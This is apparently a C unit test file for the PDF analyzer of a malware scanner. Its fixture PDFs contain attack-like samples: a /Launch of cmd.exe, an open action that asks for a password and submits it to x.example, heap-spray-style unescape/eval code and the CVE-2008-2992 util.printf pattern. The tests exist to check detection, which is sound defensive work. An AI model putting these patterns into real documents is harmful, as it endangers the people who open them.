/*
 * test_pdfind.c - PDF indicators (analyzers/an_pdf.c): JavaScript (also behind #xx-escaped
 * names and in streams), actions that run when the file opens, /Launch, embedded files,
 * form submission, rich media, XFA and links; in plain objects, in compressed object
 * streams and across the two.  Each PDF is written here with a correct cross-reference
 * table (or stream), so that qpdf reads it as a viewer would.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <qpdf/qpdf-c.h>
#include <stdarg.h>
#include <zlib.h>

#include "testutil.h"

#define MAXOBJ 32

/* Object bodies by number; a body starting with "STREAM:" is "dict-extra\ndata" made into a
 * FlateDecode stream.  Objects listed in 'packed' go into one compressed object stream. */
struct pdfspec {
    const char *obj[MAXOBJ];
    int packed[MAXOBJ];
};

static void put(struct tu_bytes *b, const char *s) { tu_bytes_put(b, s, strlen(s)); }

static void putf(struct tu_bytes *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void putf(struct tu_bytes *b, const char *fmt, ...)
{
    char *s = NULL;
    va_list ap;
    va_start(ap, fmt);
    assert_true(vasprintf(&s, fmt, ap) >= 0);
    va_end(ap);
    put(b, s);
    free(s);
}

static void flate_stream(struct tu_bytes *b, const char *dict, const void *data, size_t n)
{
    uLongf zl = compressBound(n);
    uint8_t *z = malloc(zl);
    assert_non_null(z);
    assert_int_equal(compress(z, &zl, data, n), Z_OK);
    putf(b, "<< /Length %lu /Filter /FlateDecode %s >>\nstream\n", (unsigned long)zl, dict);
    tu_bytes_put(b, z, zl);
    put(b, "\nendstream");
    free(z);
}

static uint8_t *make_pdf(const struct pdfspec *sp, size_t *len)
{
    struct tu_bytes b = {0};
    long off[MAXOBJ + 2] = {0};
    int max = 0, npacked = 0, stm = 0;
    for (int i = 1; i < MAXOBJ; i++) {
        if (sp->obj[i])
            max = i;
        npacked += sp->packed[i];
    }
    put(&b, "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n");
    for (int i = 1; i <= max; i++) {
        if (!sp->obj[i] || sp->packed[i])
            continue;
        off[i] = (long)b.len;
        putf(&b, "%d 0 obj\n", i);
        if (!strncmp(sp->obj[i], "STREAM:", 7)) {
            const char *nl = strchr(sp->obj[i] + 7, '\n');
            char *dict = strndup(sp->obj[i] + 7, (size_t)(nl - sp->obj[i] - 7));
            flate_stream(&b, dict, nl + 1, strlen(nl + 1));
            free(dict);
        } else {
            put(&b, sp->obj[i]);
        }
        put(&b, "\nendobj\n");
    }
    int index[MAXOBJ] = {0};
    if (npacked) {
        struct tu_bytes hdr = {0}, body = {0};
        int k = 0;
        for (int i = 1; i <= max; i++) {
            if (!sp->packed[i])
                continue;
            putf(&hdr, "%d %zu ", i, body.len);
            put(&body, sp->obj[i]);
            put(&body, "\n");
            index[i] = k++;
        }
        put(&hdr, "\n");
        struct tu_bytes all = {0};
        tu_bytes_put(&all, hdr.p, hdr.len);
        tu_bytes_put(&all, body.p, body.len);
        stm = ++max;
        off[stm] = (long)b.len;
        char dict[96];
        snprintf(dict, sizeof dict, "/Type /ObjStm /N %d /First %zu", k, hdr.len);
        putf(&b, "%d 0 obj\n", stm);
        flate_stream(&b, dict, all.p, all.len);
        put(&b, "\nendobj\n");
        free(hdr.p);
        free(body.p);
        free(all.p);
        /* A cross-reference stream: type 1 (offset) or 2 (in the object stream) per object. */
        int xr = ++max;
        off[xr] = (long)b.len;
        struct tu_bytes rows = {0};
        for (int i = 0; i <= xr; i++) {
            uint8_t r[7] = {0};
            if (off[i] || i == xr) {
                long o = off[i];
                r[0] = 1;
                r[1] = (uint8_t)(o >> 24);
                r[2] = (uint8_t)(o >> 16);
                r[3] = (uint8_t)(o >> 8);
                r[4] = (uint8_t)o;
            } else if (i && sp->packed[i]) {
                r[0] = 2;
                r[1] = (uint8_t)(stm >> 24);
                r[2] = (uint8_t)(stm >> 16);
                r[3] = (uint8_t)(stm >> 8);
                r[4] = (uint8_t)stm;
                r[6] = (uint8_t)index[i];
            }
            tu_bytes_put(&rows, r, 7);
        }
        putf(&b, "%d 0 obj\n<< /Type /XRef /Size %d /Root 1 0 R /W [1 4 2] /Length %zu >>\n"
                 "stream\n", xr, xr + 1, rows.len);
        tu_bytes_put(&b, rows.p, rows.len);
        putf(&b, "\nendstream\nendobj\nstartxref\n%ld\n%%%%EOF\n", off[xr]);
        free(rows.p);
    } else {
        long x = (long)b.len;
        putf(&b, "xref\n0 %d\n0000000000 65535 f \n", max + 1);
        for (int i = 1; i <= max; i++) {
            if (off[i])
                putf(&b, "%010ld 00000 n \n", off[i]);
            else
                put(&b, "0000000000 65535 f \n");
        }
        putf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%ld\n%%%%EOF\n", max + 1, x);
    }
    *len = b.len;
    return b.p;
}

#define CATALOG(extra) "<< /Type /Catalog /Pages 2 0 R " extra " >>"
#define PAGES "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
#define PAGE(extra) "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " extra " >>"
#define CONTENT "STREAM:\nBT /F1 12 Tf 72 720 Td (Quarterly report: var x = app.alert) Tj ET\n"

struct pcase {
    const char *label;
    struct pdfspec sp;
    const char *id;   /* a finding expected, or NULL */
    int sev;
    const char *ev;   /* part of its evidence */
    enum fg_verdict verdict;
};

static const struct pcase cases[] = {
    {"plain document",
     {{NULL, CATALOG("/OpenAction [3 0 R /Fit] /PageMode /UseOutlines"), PAGES, PAGE(""), CONTENT}, {0}},
     NULL, 0, NULL, FG_VERDICT_CLEAN},
    {"open action to a destination object",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT, "[3 0 R /FitH 792]"}, {0}},
     NULL, 0, NULL, FG_VERDICT_CLEAN},
    {"link to a web page",
     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
       "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.debian.org/doc/) >> >>"}, {0}},
     "pdf.uri", FG_SEV_INFO, "https://www.debian.org/doc/", FG_VERDICT_CLEAN},
    {"form field scripts (keystroke, format)",
     {{NULL, CATALOG("/AcroForm << /Fields [5 0 R] >>"), PAGES, PAGE(""), CONTENT,
       "<< /FT /Tx /T (amount) /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2,0,0,0,\"\",true\\);) >> /F 6 0 R >> >>",
       "<< /S /JavaScript /JS (AFNumber_Format\\(2,0,0,0,\"\",true\\);) >>"}, {0}},
     "pdf.javascript", FG_SEV_LOW, "AFNumber_Keystroke(2,0,0,0", FG_VERDICT_CLEAN},
    {"open action runs JavaScript",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /Type /Action /S /JavaScript /JS (app.launchURL\\('http://x.example/'\\);) >>"}, {0}},
     "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
    {"open action only shows a message (quizzes, form helpers)",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>"}, {0}},
     "pdf.openaction", FG_SEV_LOW, "/OpenAction 5 0 R", FG_VERDICT_CLEAN},
    {"open action asks the reader a question (quizzes); sending the answer would be more",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /Type /Action /S /JavaScript /JS (var p = app.response\\('PIN'\\);) >>"}, {0}},
     "pdf.openaction", FG_SEV_LOW, "/OpenAction 5 0 R", FG_VERDICT_CLEAN},
    {"open action asks for a password and sends it",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /Type /Action /S /JavaScript /JS (var p = app.response\\('Password'\\); this.submitForm\\('http://x.example/?' + p\\);) >>"}, {0}},
     "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
    {"open action imports form data from the file beside it (AcroTeX)",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /Type /Action /S /JavaScript /JS (this.importAnFDF\\('quiz.fdf'\\);) >>"}, {0}},
     "pdf.openaction", FG_SEV_LOW, "/OpenAction 5 0 R", FG_VERDICT_CLEAN},
    {"open action imports form data from a server",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /Type /Action /S /JavaScript /JS (this.importAnFDF\\('http://x.example/a.fdf'\\);) >>"}, {0}},
     "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
    {"JavaScript text as evidence",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /S /JavaScript /JS <6170702E6C61756E636855524C283129> >>"}, {0}},
     "pdf.javascript", FG_SEV_LOW, "app.launchURL(1)", FG_VERDICT_SUSPICIOUS},
    {"hex-escaped names",
     {{NULL, CATALOG("/Open#41ction << /S /J#61vaScript /J#53 (this.print\\(\\)) >>"), PAGES,
       PAGE(""), CONTENT}, {0}},
     "pdf.javascript", FG_SEV_MEDIUM, "this.print()", FG_VERDICT_SUSPICIOUS},
    {"exploit-like code in a stream, run at open",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /S /JavaScript /JS 6 0 R >>",
       "STREAM:\nvar s = unescape('%u9090%u9090%u4141'); var f = String.fromCharCode(101); "
       "eval(s + f); app.alert(1);"}, {0}},
     "pdf.openaction", FG_SEV_HIGH, "/OpenAction 5 0 R", FG_VERDICT_MALICIOUS},
    {"the same code, evidence of the script",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /S /JavaScript /JS 6 0 R >>",
       "STREAM:\nvar s = unescape('%u9090%u9090%u4141'); var f = String.fromCharCode(101); "
       "eval(s + f); app.alert(1);"}, {0}},
     "pdf.javascript", FG_SEV_MEDIUM, "var s = unescape('%u9090", FG_VERDICT_MALICIOUS},
    {"the same code in a stream nothing runs",
     {{NULL, CATALOG(""), PAGES, PAGE(""), CONTENT, "<< /S /JavaScript /JS 6 0 R >>",
       "STREAM:\nvar s = unescape('%u9090%u9090%u4141'); eval(s); app.alert(1);"}, {0}},
     "pdf.javascript", FG_SEV_MEDIUM, "unescape('%u9090", FG_VERDICT_SUSPICIOUS},
    {"page open action (/AA /O) runs JavaScript",
     {{NULL, CATALOG(""), PAGES, PAGE("/AA 5 0 R"), CONTENT, "<< /O 6 0 R >>",
       "<< /S /JavaScript /JS (app.launchURL\\(1\\)) >>"}, {0}},
     "pdf.openaction", FG_SEV_MEDIUM, "/AA 5 0 R", FG_VERDICT_SUSPICIOUS},
    {"/Launch of cmd.exe",
     {{NULL, CATALOG("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
       PAGES, PAGE(""), CONTENT}, {0}},
     "pdf.launch", FG_SEV_HIGH, "/F (cmd.exe) /P (/c calc)", FG_VERDICT_MALICIOUS},
    {"/Launch of another PDF",
     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
       "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (part2.pdf) >> >>"}, {0}},
     "pdf.launch", FG_SEV_LOW, "part2.pdf", FG_VERDICT_CLEAN},
    {"embedded file",
     {{NULL, CATALOG("/Names << /EmbeddedFiles << /Names [(a.txt) 5 0 R] >> >>"), PAGES, PAGE(""),
       CONTENT, "<< /Type /Filespec /F (a.txt) /EF << /F 6 0 R >> >>",
       "STREAM:/Type /EmbeddedFile\nhello\n"}, {0}},
     "pdf.embedded-file", FG_SEV_LOW, "1 /EmbeddedFile", FG_VERDICT_CLEAN},
    {"form submitted to a server",
     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
       "<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (http://x.example/p.php) >> >> >>"}, {0}},
     "pdf.submitform", FG_SEV_MEDIUM, "http://x.example/p.php", FG_VERDICT_SUSPICIOUS},
    {"rich media",
     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
       "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"}, {0}},
     "pdf.richmedia", FG_SEV_LOW, "RichMedia", FG_VERDICT_CLEAN},
    {"XFA form",
     {{NULL, CATALOG("/AcroForm << /Fields [] /XFA 5 0 R >>"), PAGES, PAGE(""), CONTENT,
       "STREAM:\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template/></xdp:xdp>"}, {0}},
     "pdf.xfa", FG_SEV_LOW, "XFA", FG_VERDICT_CLEAN},
    /* Compressed object streams: the catalog and the action where a viewer finds them. */
    {"object stream: trigger and script together",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /S /JavaScript /JS (app.launchURL\\(2\\)) >>"},
      {0, 1, 0, 0, 0, 1}},
     "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
    {"object stream: trigger in the file, script compressed",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /S /JavaScript /JS (app.launchURL\\(3\\)) >>"},
      {0, 0, 0, 0, 0, 1}},
     "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
    {"object stream: trigger compressed, script in the file",
     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
       "<< /S /JavaScript /JS (app.launchURL\\(4\\)) >>"},
      {0, 1, 1, 1}},
     "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
    {"object stream: hyperlinks only",
     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
       "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/) >> >>"},
      {0, 1, 1, 1, 0, 1}},
     "pdf.uri", FG_SEV_INFO, "https://example.org/", FG_VERDICT_CLEAN},
    /* Benign documents from Debian's TeX Live documentation (bench/doc_fp.sh) that were
     * suspicious, and the malicious side of each rule that made them clean. */
    {"animation started and stopped as its page shows (annotation /AA /PO /PC)",
     {{NULL, CATALOG("/Names << /JavaScript 7 0 R >>"), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
       "<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /PO << /S /JavaScript /JS 6 0 R >>"
       " /PC << /S /JavaScript /JS (try{if\\(b1_on\\){b1_stop\\(\\);}}catch\\(e\\){}) >> >> >>",
       "STREAM:\ntry{if(!b1_on){b1_tm=app.setInterval('b1_next()', 40);}}catch(e){}",
       "<< /Names [(anim) 8 0 R] >>",
       "<< /S /JavaScript /JS (var b1_on=false; function b1_next\\(\\){this.getField\\('f'\\).value++;}) >>"},
      {0}},
     "pdf.openaction", FG_SEV_LOW, "/PO << /S /JavaScript /JS 6 0 R", FG_VERDICT_CLEAN},
    {"the same trigger, code that opens a web page",
     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
       "<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /PO << /S /JavaScript /JS 6 0 R >> >> >>",
       "STREAM:\napp.launchURL('http://x.example/a', true);"}, {0}},
     "pdf.openaction", FG_SEV_MEDIUM, "/PO << /S /JavaScript", FG_VERDICT_SUSPICIOUS},
    {"quiz code: util.printf of a score, eval of field names, .replace on input",
     {{NULL, CATALOG("/Names << /JavaScript 5 0 R >>"), PAGES, PAGE(""), CONTENT,
       "<< /Names [(quiz) 6 0 R] >>", "<< /S /JavaScript /JS 7 0 R >>",
       "STREAM:\nfunction score(q, p, t) { var o = eval(q); var s = util.printf(\"%.1f\", 100 * p / t);"
       " return this.getField(o.name).value.replace(/\\s/g, '') + s; }"}, {0}},
     "pdf.javascript", FG_SEV_LOW, "util.printf(\"%.1f\"", FG_VERDICT_CLEAN},
    {"util.printf with a format 45000 wide (CVE-2008-2992)",
     {{NULL, CATALOG("/Names << /JavaScript 5 0 R >>"), PAGES, PAGE(""), CONTENT,
       "<< /Names [(x) 6 0 R] >>", "<< /S /JavaScript /JS 7 0 R >>",
       "STREAM:\nvar n = 1.2e-300; util.printf(\"%45000.45000f\", n);"}, {0}},
     "pdf.javascript", FG_SEV_MEDIUM, "util.printf", FG_VERDICT_SUSPICIOUS},
    {"eval of a string decoded with .replace",
     {{NULL, CATALOG("/Names << /JavaScript 5 0 R >>"), PAGES, PAGE(""), CONTENT,
       "<< /Names [(x) 6 0 R] >>", "<< /S /JavaScript /JS 7 0 R >>",
       "STREAM:\nvar c = 'app!2Ealert!281!29'; eval(c.replace(/!/g, '%'));"}, {0}},
     "pdf.javascript", FG_SEV_MEDIUM, "eval(c.replace", FG_VERDICT_SUSPICIOUS},
    {"/Launch of the manual's source, file named before the action (hyperref run: link)",
     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
       "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A<</F(manual-examples.tex)/S/Launch>> >>"}, {0}},
     "pdf.launch", FG_SEV_LOW, "/F(manual-examples.tex)/S/Launch", FG_VERDICT_CLEAN},
    {"/Launch of a program, file named before the action",
     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
       "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A<</F(tools/setup.exe)/S/Launch>> >>"}, {0}},
     "pdf.launch", FG_SEV_HIGH, "/F(tools/setup.exe)/S/Launch", FG_VERDICT_MALICIOUS},
    {"/Launch of a program, a .pdf named elsewhere in the action",
     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
       "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A<</F(run.exe)/S/Launch"
       "/Next<</S/URI/URI(https://x.example/a.pdf)>>>> >>"}, {0}},
     "pdf.launch", FG_SEV_HIGH, "/F(run.exe)/S/Launch", FG_VERDICT_MALICIOUS},
};

static int find(const fg_result *r, const char *id, int *sev, const char **ev)
{
    for (size_t i = 0; i < fg_result_object_count(r); i++) {
        const struct fg_object_info *o = fg_result_object(r, i);
        for (size_t j = 0; j < o->nfindings; j++) {
            if (strcmp(o->findings[j].id, id))
                continue;
            /* The most severe of several (raw file and object stream may both say it). */
            if ((int)o->findings[j].severity > *sev) {
                *sev = (int)o->findings[j].severity;
                *ev = o->findings[j].evidence;
            }
        }
    }
    return *sev >= 0;
}

static size_t count_prefix(const fg_result *r, const char *prefix)
{
    size_t c = 0;
    for (size_t i = 0; i < fg_result_object_count(r); i++) {
        const struct fg_object_info *o = fg_result_object(r, i);
        for (size_t j = 0; j < o->nfindings; j++)
            c += !strncmp(o->findings[j].id, prefix, strlen(prefix));
    }
    return c;
}

static void test_cases(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const struct pcase *c = &cases[i];
        size_t n;
        uint8_t *pdf = make_pdf(&c->sp, &n);
        fg_result *r = tu_scan(e, "t.pdf", pdf, n);
        int sev = -1;
        const char *ev = NULL;
        int ok = fg_result_verdict(r) == c->verdict;
        if (c->id)
            ok = ok && find(r, c->id, &sev, &ev) && sev == c->sev && strstr(ev, c->ev);
        else
            ok = ok && count_prefix(r, "pdf.") == 0;
        if (!ok) {
            print_message("case '%s' failed\n", c->label);
            tu_dump(r);
        }
        assert_true(ok);
        fg_result_free(r);
        /* The same file cut short or damaged: no crash, no hang. */
        for (size_t cut = 1; cut < n; cut += n / 16 + 1) {
            r = tu_scan(e, "cut.pdf", pdf, cut);
            fg_result_free(r);
        }
        for (size_t k = 0; k < 16; k++) {
            pdf[(k * 7919) % n] ^= (uint8_t)(1u << (k % 8));
            r = tu_scan(e, "flip.pdf", pdf, n);
            fg_result_free(r);
        }
        free(pdf);
    }
    fg_engine_free(e);
}

/* PDF syntax that no writer makes, as hostile files hold it. */
static void test_hostile(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    static const char *const bad[] = {
        "%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (unterminated",
        "%PDF-1.4\n1 0 obj << /JS <414", "%PDF-1.4\n/J#", "%PDF-1.4\n/J#6", "%PDF-1.4\n((((((((",
        "%PDF-1.4\n<<<<<<<<<<<<<<<< /AA << /O 1", "%PDF-1.4\n/OpenAction 99999999999999 0 R",
        "%PDF-1.4\n1 0 obj stream", "%PDF-1.4\n/URI (\\", "%PDF-1.4\n/Launch",
        "%PDF-1.4\n1 0 obj << /AA 1 0 R /O 1 0 R /Next 1 0 R >> endobj /OpenAction 1 0 R"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        fg_result *r = tu_scan(e, "bad.pdf", bad[i], strlen(bad[i]));
        fg_result_free(r);
    }
    /* Many objects referring to each other in a ring, each with a trigger. */
    struct tu_bytes b = {0};
    put(&b, "%PDF-1.4\n");
    for (int i = 1; i <= 5000; i++)
        putf(&b, "%d 0 obj << /OpenAction %d 0 R /Next %d 0 R /AA << /O %d 0 R >> /JS (x) >>\n"
                 "endobj\n", i, i % 5000 + 1, (i + 7) % 5000 + 1, i);
    fg_result *r = tu_scan(e, "ring.pdf", b.p, b.len);
    assert_true(tu_has_finding(r, "pdf.openaction"));
    fg_result_free(r);
    free(b.p);
    fg_engine_free(e);
}

/* The file as qpdf rewrites it: its own object streams, or AES-256 encryption (empty user
 * password, so the unpacker decrypts it and hands over the objects as "objects"). */
static uint8_t *rewrite(const uint8_t *pdf, size_t n, int encrypt, size_t *len)
{
    qpdf_data q = qpdf_init();
    qpdf_silence_errors(q);
    qpdf_set_suppress_warnings(q, QPDF_TRUE);
    assert_int_equal(qpdf_read_memory(q, "fixture", (const char *)pdf, n, NULL) & QPDF_ERRORS, 0);
    assert_int_equal(qpdf_init_write_memory(q) & QPDF_ERRORS, 0);
    qpdf_set_object_stream_mode(q, qpdf_o_generate);
    if (encrypt)
        qpdf_set_r6_encryption_parameters2(q, "", "owner", 1, 1, 1, 1, 1, 1, qpdf_r3p_full, 1);
    assert_int_equal(qpdf_write(q) & QPDF_ERRORS, 0);
    *len = qpdf_get_buffer_length(q);
    uint8_t *out = malloc(*len);
    assert_non_null(out);
    memcpy(out, qpdf_get_buffer(q), *len);
    qpdf_cleanup(&q);
    return out;
}

static int has_evidence(const fg_result *r, const char *id, const char *part)
{
    for (size_t i = 0; i < fg_result_object_count(r); i++) {
        const struct fg_object_info *o = fg_result_object(r, i);
        for (size_t j = 0; j < o->nfindings; j++)
            if (!strcmp(o->findings[j].id, id) && strstr(o->findings[j].evidence, part))
                return 1;
    }
    return 0;
}

static void test_rewritten(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    const struct pdfspec sp = {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
                                "<< /S /JavaScript /JS (app.launchURL\\('rewritten'\\);) >>"}, {0}};
    size_t n, m;
    uint8_t *pdf = make_pdf(&sp, &n);
    for (int encrypt = 0; encrypt < 2; encrypt++) {
        uint8_t *out = rewrite(pdf, n, encrypt, &m);
        if (!encrypt)
            assert_non_null(memmem(out, m, "/ObjStm", 7));
        fg_result *r = tu_scan(e, "qpdf.pdf", out, m);
        int ok = tu_has_finding(r, "pdf.openaction") &&
                 has_evidence(r, "pdf.javascript", "app.launchURL('rewritten');") &&
                 fg_result_verdict(r) == FG_VERDICT_SUSPICIOUS;
        if (!ok)
            tu_dump(r);
        assert_true(ok);
        fg_result_free(r);
        free(out);
    }
    free(pdf);
    fg_engine_free(e);
}

/* Thousands of object streams, each holding a script: read once, not once per stream. */
static void test_many_object_streams(void **state)
{
    (void)state;
    fg_engine *e = NULL;
    struct fg_limits l;
    assert_int_equal(fg_engine_new(&e), 0);
    fg_limits_default(&l);
    l.max_seconds = 60;
    assert_int_equal(fg_engine_set_limits(e, &l), 0);
    assert_int_equal(fg_engine_add_builtin_rules(e), 0);
    assert_int_equal(fg_engine_compile(e), 0);
    struct tu_bytes b = {0};
    put(&b, "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n");
    char pad[4002];
    memset(pad, 'x', sizeof pad - 2);
    pad[0] = '%';
    pad[sizeof pad - 2] = '\n';
    pad[sizeof pad - 1] = 0;
    for (int k = 0; k < 1500; k++) {
        char body[128];
        int bl = snprintf(body, sizeof body, "%d 0 << /S /JavaScript /JS (app.alert\\(%d\\)) >>",
                          100000 + k, k);
        putf(&b, "%d 0 obj\n", 3 + k);
        flate_stream(&b, "/Type /ObjStm /N 1 /First 9", body, (size_t)bl);
        put(&b, "\nendobj\n");
        put(&b, pad);
    }
    put(&b, "trailer << /Root 1 0 R >>\n%%EOF\n");
    fg_result *r = tu_scan(e, "many.pdf", b.p, b.len);
    assert_false(tu_has_finding(r, "limit.time"));
    assert_true(tu_object_has(r, "many.pdf", "pdf.javascript"));
    fg_result_free(r);
    free(b.p);
    fg_engine_free(e);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_cases, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_hostile, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_rewritten, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_many_object_streams, tu_tmpdir_setup,
                                        tu_tmpdir_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
